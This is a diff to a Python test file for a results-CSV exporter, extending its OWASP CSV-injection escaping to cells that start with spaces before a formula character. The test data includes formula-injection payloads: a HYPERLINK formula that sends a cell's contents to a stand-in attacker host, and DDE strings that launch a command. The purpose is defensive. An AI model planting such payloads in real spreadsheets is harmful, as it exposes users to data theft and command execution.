@@ -1,6 +1,7 @@
 """``results.csv`` is safe to open in a spreadsheet: OWASP's CSV-injection rule on text cells.
 
-A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``;
+A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after any spaces (some
+spreadsheets trim them on import), gets a leading ``'``;
 text is quoted; numbers (``chance_log2``, ``trials``, ...) stay unprefixed numbers.
 """
 
@@ -20,8 +21,8 @@ from testbed.results import ResultRow
 from testbed.types import Outcome
 
 TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
-          "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "=1\n=2"]
-HARMLESS = ["Kernel map leak", "a=b", "1+1", " =1", "'quoted", "", "a,\"b\"\r\nc"]
+          "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "=1\n=2", " =1", "   +1"]
+HARMLESS = ["Kernel map leak", "a=b", "1+1", " 1", "'quoted", "", "a,\"b\"\r\nc"]
 
 
 def row(title: str, *, scenario: str = "demo", chance_log2: float | None = None,
